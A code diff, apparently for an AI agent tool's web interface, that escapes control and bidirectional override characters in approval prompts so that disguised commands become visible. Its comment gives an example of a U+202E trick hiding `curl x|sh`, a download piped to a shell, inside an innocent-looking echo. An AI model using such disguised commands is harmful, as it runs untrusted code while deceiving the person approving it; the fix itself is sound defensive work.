@@ -137,13 +137,23 @@ async function forkAt(entryId) {
   } catch (error) { notice(error.message); }
 }
 
+// As the terminal shows them (tether.cli.terminal_text): control characters but tab and newline,
+// and the bidirectional overrides and isolates, written as escapes: U+202E shows the rest of a
+// line reversed, so `echo "\u202e";curl x|sh #"` read as an echo of garbage (`echo "lruc;" ...
+// "# hs|x`) where it pipes a download to sh.
+const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g;
+const visible = (text) => text.replace(CONTROL, (c) => {
+  const code = c.charCodeAt(0);
+  return code < 0x100 ? "\\x" + code.toString(16).padStart(2, "0") : "\\u" + code.toString(16).padStart(4, "0");
+});
+
 function showApproval(approval) {
   if (document.getElementById("approval-" + approval.id)) return;
   const box = document.createElement("div");
   box.className = "approval";
   box.id = "approval-" + approval.id;
   const question = document.createElement("p");
-  question.textContent = "Approve? " + approval.question;
+  question.textContent = "Approve? " + visible(approval.question);
   const allow = document.createElement("button");
   allow.type = "button"; allow.className = "allow"; allow.textContent = "Allow";
   const deny = document.createElement("button");
